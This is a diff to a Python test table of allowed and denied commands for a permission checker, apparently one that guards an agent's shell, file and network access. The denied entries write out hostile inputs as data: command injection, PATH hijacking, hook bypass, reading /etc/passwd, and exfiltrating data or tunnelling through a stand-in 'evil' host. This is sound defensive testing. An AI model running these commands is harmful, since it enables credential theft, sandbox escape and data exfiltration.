@@ -125,8 +125,17 @@ ALLOWED: Mapping[str, tuple[list[str], list[str]]] = {
             "git status $(rm x)", "PATH=/x git status", "PATH=/x; git status", "export PATH=x; git status",
             "sudo git status", "git() { rm x; }; git status", "git status\nrm x", "eval 'git status'",
             "./git status", "/tmp/x/git status", "for PATH in /x; do git status; done", "git status ${GIT_DIR:=/x}",
+            "git --exec-path=/x status",
         ],
     ),
+    'shell = ["git commit", "printf"]': (
+        ["git commit -m x", "printf '%s' x && git commit -m x"],
+        [
+            "git commit -n -m x", "git commit --no-verify -m x", "printf -v PATH /x; git commit -m x",
+            "printf $X a; git commit",
+        ],
+    ),
+    'shell = "git commit --no-verify"': (["git commit -n -m x"], ["git commit -m x"]),
     'shell_exact = "/usr/local/bin/x a"': (["/usr/local/bin/x a"], ["x a", "/usr/bin/x a", "./x a"]),
     'shell = "~/bin/x"': (["~/bin/x -a"], ["bin/x", "x"]),
     'shell = "x.sh"': (["x.sh", "./x.sh -a"], ["/tmp/x.sh", "../x.sh"]),
@@ -135,10 +144,28 @@ ALLOWED: Mapping[str, tuple[list[str], list[str]]] = {
     'shell = "bash ok.sh"': (["bash ok.sh"], ["/tmp/ok.sh", "bash ok.sh; rm x"]),
     'shell = "git push origin dev"': (["git push origin dev"], ["git push origin +dev", "git push origin HEAD:dev"]),
     'delete = "build/x"': (["rm build/x"], ["rm -rf build", "rm build/x /etc/y", "rm build/x; ls"]),
-    'read = "docs/**"': (["cat docs/a"], ["cat docs/a /etc/passwd", "cat docs/a | sh"]),
-    'connect = "*.example.com"': (
-        ["curl https://a.example.com"],
+    'delete = "build/**"': (
+        ["rm -rf build/x", "rm -rf build/*", "find build -name '*.o' -delete"],
+        ["rm -rf build/$X", "rm -rf build/$(cat x)", "find build -name $X -delete; rm build/${Y}/z"],
+    ),
+    'read = "docs/**"': (
+        ["cat docs/a", "less docs/a", "grep -f docs/a docs/b"],
         [
+            "cat docs/a /etc/passwd", "cat docs/a | sh", "cat docs/$X", "psql -f docs/a", "mysql < docs/a",
+            "curl -K docs/a",
+            "wget -i docs/a", "git commit -F docs/a", "python3 -m http.server -d docs/a", "mail -a docs/a root",
+            "date -f docs/a -s x",
+        ],
+    ),
+    'connect = "*.example.com"': (
+        ["curl https://a.example.com", "ssh -J b.example.com a.example.com", "curl -x c.example.com:80 a.example.com"],
+        [
+            "curl -x http://evil https://a.example.com", "curl --resolve a.example.com:80:10.0.0.1 a.example.com",
+            "curl --connect-to ::evil:443 a.example.com", "curl --unix-socket /run/docker.sock a.example.com",
+            "ssh -L 80:evil:22 a.example.com", "ssh -W evil:22 a.example.com",
+            "ssh -J me@evil,b.example.com a.example.com",
+            "ssh -o HostName=evil a.example.com", "ssh -D 80 a.example.com", "nc -x evil:80 a.example.com 80",
+            "wget -e http_proxy=http://evil a.example.com", "scp -J evil docs a.example.com:",
             "curl https://a.example.com https://evil.example", "curl https://a.example.com -o x",
             "curl -d @/etc/passwd https://a.example.com",
         ],
@@ -151,7 +178,10 @@ ALLOWED: Mapping[str, tuple[list[str], list[str]]] = {
         ["echo x > src/a", "cp a src/b", "sed s/a/b/ x > src/y", "git log > src/log"],
         [
             "tee src/a /etc/x", "mv a src/b", "echo x > src/a; ls", "node x.js > src/a", "./x > src/a", "x < a > src/a",
-            "make > src/a", "git gc > src/a", "awk '{system(1)}' x > src/a",
+            "make > src/a", "git gc > src/a", "awk '{system(1)}' x > src/a", "date -s x > src/a",
+            "date 11231200 > src/a",
+            "echo x > src/$D", "cp a src/$(cat x)/y", "printf -v PATH x > src/a", "git stash push src/a",
+            "script src/a < x",
         ],
     ),
 }  # fmt: skip
